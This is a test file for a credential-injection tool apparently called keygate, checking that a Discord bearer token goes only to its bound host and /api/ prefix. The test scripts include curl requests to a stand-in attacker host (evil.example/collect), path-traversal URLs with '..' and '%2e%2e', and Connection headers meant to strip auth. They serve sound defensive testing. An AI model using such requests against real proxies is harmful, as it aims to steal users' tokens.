// A credential goes only where it was bound at login (hosts + path prefix, inside the encrypted
// record), and a request can't strip it with a Connection header. A recorder plays discord.com and
// evil.example (KEYGATE_CONNECT_TO), so every header that arrives is seen; the real token is a
// known string, so "got the token" is an exact check.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openVault } from '../../src/vault/index.js';
import { cliEnv, runCli, tempHome } from '../helpers/cli.js';
import { type Recorder, header, startRecorder, testCa } from '../fixtures/servers.js';

const TOKEN = 'Aq7TokenForBindingTests0000000';
let home: string;
let env: NodeJS.ProcessEnv;
let discord: Recorder;
let evil: Recorder;
const dirs: string[] = [];

beforeAll(async () => {
  home = tempHome();
  const outside = tempHome('keygate-binding-');
  dirs.push(home, outside);
  const ca = await testCa(outside);
  discord = await startRecorder({ tls: await ca.issue(['discord.com']) });
  evil = await startRecorder({ tls: await ca.issue(['evil.example']) });
  env = cliEnv(home, {
    KEYGATE_CONNECT_TO: `discord.com:443:127.0.0.1:${discord.port},evil.example:443:127.0.0.1:${evil.port}`,
    NODE_EXTRA_CA_CERTS: ca.caPath,
  });
  const vault = await openVault({ home, env: { KEYGATE_KEY_BACKEND: 'keyfile' }, stderr: () => undefined, keychain: null });
  await vault.write({
    provider: 'discord',
    connection: 'default',
    tokens: {
      access_token: TOKEN,
      token_type: 'Bearer',
      expires_at: new Date(Date.now() + 86_400_000).toISOString(),
      scopes: ['identify'],
    },
    binding: { hosts: ['discord.com'], path_prefix: '/api/' },
    account: { id: '1', name: 'alice' },
    status: 'connected',
    created_at: new Date().toISOString(),
  });
}, 30_000);

afterAll(async () => {
  await discord?.close();
  await evil?.close();
  for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
});

function run(script: string) {
  return runCli(['run', '--', 'sh', '-c', script], { env, timeoutMs: 20_000 });
}

/** The Authorization headers the recorder got for requests whose URL starts with `url`. */
function authorizationsFor(recorder: Recorder, url: string): string[] {
  return recorder.requests.filter((r) => r.url.startsWith(url)).flatMap((r) => header(r, 'authorization'));
}

describe('credentials go only to the hosts and path prefix recorded at login', () => {
  it('injects under /api/, not into https://discord.com/keygate-test.git/info/refs (git) nor through a dot segment', async () => {
    const res = await run(
      'curl -sS -o /dev/null https://discord.com/api/v10/users/@me; ' +
        'curl -sS -o /dev/null https://discord.com/keygate-test.git/info/refs?service=git-upload-pack; ' +
        'curl -sS -o /dev/null --path-as-is https://discord.com/api/../keygate-dot.git/info/refs; ' +
        'curl -sS -o /dev/null --path-as-is https://discord.com/api/%2e%2e/keygate-enc.git; ' +
        'curl -sS -H "Authorization: Bearer $DISCORD_ACCESS_TOKEN" https://discord.com/keygate-placeholder.git/',
    );
    expect(res.code, res.stderr).toBe(0);
    // The harness does see an injected token (so the checks below can fail):
    expect(authorizationsFor(discord, '/api/v10/users/@me')).toEqual([`Bearer ${TOKEN}`]);
    expect(authorizationsFor(discord, '/keygate-test.git/')).toEqual([]);
    expect(authorizationsFor(discord, '/api/../keygate-dot.git')).toEqual([]);
    expect(authorizationsFor(discord, '/api/%2e%2e/keygate-enc.git')).toEqual([]);
    // A placeholder sent outside the prefix is refused by keygate, never forwarded.
    expect(discord.requests.some((r) => r.url.startsWith('/keygate-placeholder.git'))).toBe(false);
    expect(res.stdout).toContain('keygate_placeholder_refused');
    expect(res.stdout).toContain('may only be sent to discord.com under /api/');
  });

  it('a provider file that adds a host moves nothing until `providers trust`; run says so in one line', async () => {
    const file = path.join(home, 'providers', 'discord.json');
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, JSON.stringify({ api: { hosts: ['discord.com', 'evil.example'] } }));
    try {
      const before = await run('curl -sS -o /dev/null https://evil.example/collect-1');
      expect(before.code).toBe(0);
      expect(evil.requests.filter((r) => r.url === '/collect-1')).toHaveLength(1);
      expect(authorizationsFor(evil, '/collect-1')).toEqual([]);
      const warnings = before.stderr.split('\n').filter((line) => line.includes('differs from where'));
      expect(warnings).toEqual([
        "keygate: discord's provider file differs from where discord/default was bound at login (+evil.example); the credential still goes only to discord.com under /api/ — approve with `keygate providers trust discord` or `keygate login discord --force`",
      ]);

      // Approval shows the difference and takes effect: the same request now gets the token.
      const trust = await runCli(['providers', 'trust', 'discord'], { env });
      expect(trust.stdout).toBe('discord/default: +evil.example; now sent to discord.com, evil.example under /api/\n');
      const after = await run('curl -sS -o /dev/null https://evil.example/api/collect-2');
      expect(after.stderr).not.toContain('differs from where');
      expect(authorizationsFor(evil, '/api/collect-2')).toEqual([`Bearer ${TOKEN}`]);
    } finally {
      fs.rmSync(file);
      const back = await runCli(['providers', 'trust', 'discord'], { env });
      expect(back.stdout).toBe('discord/default: -evil.example; now sent to discord.com under /api/\n');
    }
  });

  it('the binding is inside the encrypted part of the record: editing the file is caught', async () => {
    const file = path.join(home, 'vault', 'connections', 'discord', 'default.json');
    const text = fs.readFileSync(file, 'utf8');
    expect(text).not.toContain('discord.com');
    expect(text).not.toContain('/api/');
  });
});

describe('a Connection header cannot strip the injected credential', () => {
  for (const named of ['authorization', 'Authorization, host', 'content-length, authorization']) {
    it(`Connection: ${named}`, async () => {
      const url = `/api/v10/connection-${named.replace(/\W+/g, '-')}`;
      const res = await run(
        `curl -sS -o /dev/null -H "Connection: ${named}" -H "Authorization: Bearer $DISCORD_ACCESS_TOKEN" https://discord.com${url}; ` +
          `curl -sS -o /dev/null -H "Connection: ${named}" https://discord.com${url}-added`,
      );
      expect(res.code).toBe(0);
      expect(authorizationsFor(discord, url)).toEqual([`Bearer ${TOKEN}`, `Bearer ${TOKEN}`]);
      // Named hop-by-hop fields still go: the Connection header itself is never forwarded.
      for (const request of discord.requests.filter((r) => r.url.startsWith(url))) expect(header(request, 'connection')).toEqual([]);
    });
  }
});
